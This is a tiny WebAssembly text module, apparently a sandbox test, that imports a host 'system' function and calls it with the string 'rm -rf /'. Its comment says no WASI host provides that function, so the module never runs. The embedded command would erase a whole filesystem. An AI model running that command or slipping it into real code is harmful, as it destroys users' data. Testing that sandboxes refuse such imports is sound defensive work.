;; Asks its host for a way to start programs. No host of WASI has one, so it never runs.
(module
  (import "env" "system" (func $system (param i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "rm -rf /\00")
  (func (export "_start") (drop (call $system (i32.const 0)))))
